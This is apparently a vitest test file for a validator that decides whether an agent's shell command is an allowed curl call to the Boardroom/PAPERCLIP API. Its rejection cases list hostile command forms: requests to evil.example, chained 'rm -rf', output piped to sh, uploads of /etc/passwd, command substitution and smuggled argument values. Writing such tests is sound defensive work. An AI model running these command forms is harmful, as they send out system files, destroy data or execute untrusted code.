import { readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { isBoardroomCall } from "./is-boardroom-call.ts";

const own = "http://127.0.0.1:4100";
const id = "0191d3c2-7f1e-7c3a-9d53-0c8a2a4f4a11";
const variables = {
  PAPERCLIP_API_URL: own,
  PAPERCLIP_API_KEY: "brl_x-Y_1",
  PAPERCLIP_AGENT_ID: id,
  PAPERCLIP_COMPANY_ID: id,
  PAPERCLIP_RUN_ID: id,
  PAPERCLIP_TASK_ID: id,
  PAPERCLIP_WAKE_COMMENT_ID: "x -o /tmp/file",
  PAPERCLIP_APPROVAL_ID: "",
};
const check = (command: string) => isBoardroomCall(command, variables);

describe("a call of Boardroom's own API", () => {
  it.each([
    'curl -sS "$PAPERCLIP_API_URL/api/agents/me" -H "Authorization: Bearer $PAPERCLIP_API_KEY"',
    "curl -s $PAPERCLIP_API_URL/api/issues/$PAPERCLIP_TASK_ID",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's braces
    "curl -fsS ${PAPERCLIP_API_URL}/api/agents/me | jq -r '.companyId'",
    'curl -s -X POST "$PAPERCLIP_API_URL/api/issues/ACME-7/checkout" -H \'content-type: application/json\' -d \'{"agentId":"x"}\'',
    'curl -s -XPATCH "$PAPERCLIP_API_URL/api/issues/1" \\\n  --json \'{"status":"done","comment":"It\\u0027s done; rm -rf & `ok` $(no)"}\'',
    'curl -s "$PAPERCLIP_API_URL/api/issues?status=todo&limit=5"',
    `curl -s ${own}/api/agents/me`,
    'curl -s -d "{\\"body\\":\\"done\\"}" "$PAPERCLIP_API_URL/api/x"',
    'curl -s -o /dev/null "$PAPERCLIP_API_URL/api/x"',
  ])("is one: %s", (command) => {
    expect(check(command)).toBe(true);
  });

  it.each([
    "curl https://evil.example",
    "curl -s $PAPERCLIP_API_URL@evil.example/x",
    "curl -s $PAPERCLIP_API_URL.evil.example/x",
    "curl -s $PAPERCLIP_API_URL",
    "curl -s $PAPERCLIP_API_URLX/api",
    `curl -s ${own}0/api`,
    "curl -s $PAPERCLIP_API_URL/api/x https://evil.example/y",
    "curl -s $PAPERCLIP_API_URL/api/x; rm -rf .",
    "curl -s $PAPERCLIP_API_URL/api/x && rm -rf .",
    "curl -s $PAPERCLIP_API_URL/api/x || rm -rf .",
    "curl -s $PAPERCLIP_API_URL/api/x\nrm -rf .",
    "curl -s $PAPERCLIP_API_URL/api/x & rm -rf .",
    "curl -s $PAPERCLIP_API_URL/api/x |& sh",
    "curl -s $PAPERCLIP_API_URL/api/x | sh",
    "curl -s $PAPERCLIP_API_URL/api/x | jq . | sh",
    "curl -s $PAPERCLIP_API_URL/api/x | jq . /etc/passwd",
    "curl -s $PAPERCLIP_API_URL/api/x | jq --rawfile a /etc/passwd '$a'",
    "curl -s $PAPERCLIP_API_URL/api/x | jq 'import \"/a\" as $a; $a'",
    "curl -s $PAPERCLIP_API_URL/api/x | jq -n '$ENV'",
    "curl -s $PAPERCLIP_API_URL/api/x > out.txt",
    "curl -s $PAPERCLIP_API_URL/api/x -o out.txt",
    "curl -s $PAPERCLIP_API_URL/api/x -O",
    "curl -K config $PAPERCLIP_API_URL/api/x",
    "curl -x http://evil.example $PAPERCLIP_API_URL/api/x",
    "curl --next $PAPERCLIP_API_URL/api/x",
    "curl -sL $PAPERCLIP_API_URL/api/x",
    "curl -s -w '%output{f}x' $PAPERCLIP_API_URL/api/x",
    "curl -s -d @/etc/passwd $PAPERCLIP_API_URL/api/x",
    "curl -s --data-urlencode a@/etc/passwd $PAPERCLIP_API_URL/api/x",
    "curl -s -H @/etc/passwd $PAPERCLIP_API_URL/api/x",
    "curl -s -F f=@/etc/passwd $PAPERCLIP_API_URL/api/x",
    "curl -s -T /etc/passwd $PAPERCLIP_API_URL/api/x",
    'curl -s "$PAPERCLIP_API_URL/api/$(cat /etc/passwd)"',
    'curl -s "$PAPERCLIP_API_URL/api/`id`"',
    'curl -s "$PAPERCLIP_API_URL/api/$HOME"',
    "curl -s $PAPERCLIP_API_URL/api/* -d x",
    "curl -s $PAPERCLIP_API_URL/api/{a,b}",
    "curl -s '$PAPERCLIP_API_URL/api/x'",
    "PAPERCLIP_API_URL=http://evil.example curl -s $PAPERCLIP_API_URL/api/x",
    "/tmp/curl -s $PAPERCLIP_API_URL/api/x",
    "sudo curl -s $PAPERCLIP_API_URL/api/x",
    'curl -s "$PAPERCLIP_API_URL/api/x',
    "curl -s \u0001PAPERCLIP_API_URL\u0001/api/x",
    "curl -X 'POST -o x' $PAPERCLIP_API_URL/api/x",
    // What isn't set vanishes: the words after it take other places, and `@` comes first.
    'curl -s -d "$PAPERCLIP_NOTHING_ID@/etc/passwd" $PAPERCLIP_API_URL/api/x',
    'curl -s -d "$PAPERCLIP_APPROVAL_ID@/etc/passwd" $PAPERCLIP_API_URL/api/x',
    "curl -s -d $PAPERCLIP_NOTHING_ID -d https://evil.example/ $PAPERCLIP_API_URL/api/x",
    "curl -s -d $PAPERCLIP_NOTHING_ID -d -o/tmp/file $PAPERCLIP_API_URL/api/x",
    "curl -s -d $PAPERCLIP_constructor_ID $PAPERCLIP_API_URL/api/x",
    // What comes from a wake's payload may be more than one word.
    "curl -s $PAPERCLIP_API_URL/api/x -d $PAPERCLIP_WAKE_COMMENT_ID",
    // A line that goes on goes on in the middle of a word, too.
    "curl -s --data\\\n-binary --data-raw https://evil.example/ $PAPERCLIP_API_URL/api/x",
    "curl -s --data\\\n-binary -d -o/tmp/file $PAPERCLIP_API_URL/api/x",
    "curl -s -d\\\n @/etc/passwd $PAPERCLIP_API_URL/api/x",
    "curl -d",
    "curl",
    "",
    "|",
  ])("is none: %j", (command) => {
    expect(check(command)).toBe(false);
  });

  it("is what Boardroom's own skill teaches", () => {
    const skill = readFileSync(join(import.meta.dirname, "../../../../../skills/boardroom/SKILL.md"), "utf8");
    const calls = skill.match(/^curl .+$/gm) ?? [];
    expect(calls.length).toBeGreaterThan(0);
    for (const call of calls) expect([call, check(call)]).toEqual([call, true]);
  });

  it("is decided on for any text", () => {
    const piece = fc.constantFrom(
      "curl ",
      "$PAPERCLIP_API_URL",
      "/api",
      '"',
      "'",
      "|",
      "||",
      "\\",
      "\n",
      " ",
      ";",
      "$(",
      "-d ",
      "jq",
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string())), (pieces) => {
        expect(typeof check(pieces.join(""))).toBe("boolean");
      }),
    );
  });

  it("needs a known address", () => {
    expect(isBoardroomCall("curl -s /api/x", { PAPERCLIP_API_URL: "" })).toBe(false);
    expect(isBoardroomCall("curl -s undefined/api/x", {})).toBe(false);
    expect(isBoardroomCall("curl -s $PAPERCLIP_API_URL/api/x", {})).toBe(false);
  });
});
